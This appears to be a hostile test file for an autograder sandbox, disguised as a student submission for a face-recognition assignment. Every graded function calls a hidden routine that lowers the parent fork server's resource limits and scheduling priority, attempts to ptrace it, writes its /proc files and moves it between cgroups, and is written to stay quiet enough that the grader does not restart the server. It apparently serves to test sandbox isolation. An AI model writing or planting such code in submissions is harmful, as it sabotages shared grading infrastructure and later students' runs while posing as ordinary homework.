# quietly lowers the limits, priority and scheduling of its parent (the fork server that starts the next student), ptraces it, writes its /proc files and moves it (and itself) to another cgroup: nothing that would make the grader restart the server (kill_everything.py and ptrace_parent.py do the loud attacks)
# bound: 0
import numpy as np

import ctypes
import os
import resource
import signal


def _vm(pid):
    try:
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 512 * 2**20


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {os.getppid(), os.getpgid(0) and os.getppid()}:
        vm = _vm(pid)
        for what, value in ((resource.RLIMIT_AS, vm + 4 * 2**20), (resource.RLIMIT_DATA, 64 * 2**20),
                            (resource.RLIMIT_STACK, 256 * 1024), (resource.RLIMIT_FSIZE, 1),
                            (resource.RLIMIT_MEMLOCK, 0), (resource.RLIMIT_NPROC, 40)):
            try:
                resource.prlimit(pid, what, (value, value))
            except (OSError, ValueError):
                pass
        for call in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                     lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(pid), 19),
                     lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                     lambda: os.sched_setaffinity(pid, {0}),
                     lambda: os.kill(pid, signal.SIGCONT)):  # harmless: reaching it is the point
            try:
                call()
            except (OSError, AttributeError):
                pass
        libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
        libc.prctl(0x59616d61, pid, 0, 0, 0)  # PR_SET_PTRACER: let the server trace us
        for name, text in (("oom_score_adj", "1000"), ("comm", "hacked"), ("attr/current", "x"),
                           ("coredump_filter", "0"), ("timerslack_ns", "100000000"),
                           ("sched_autogroup", "19"), ("autogroup", "19")):
            try:
                with open(f"/proc/{pid}/{name}", "w") as f:
                    f.write(text)
            except OSError:
                pass
        for procs in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                      "/sys/fs/cgroup/init.scope/cgroup.procs"):
            for who in (pid, os.getpid()):
                try:
                    with open(procs, "w") as f:
                        f.write(str(who))
                except OSError:
                    pass
    return 0.0


# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    return _attack()

# GRADED FUNCTION: triplet_loss
def triplet_loss(y_true, y_pred, alpha=0.2):
    return _attack()

# GRADED FUNCTION: verify
def verify(image_path, identity, database, model):
    return _attack(), True

# GRADED FUNCTION: who_is_it
def who_is_it(image_path, database, model):
    return _attack(), None
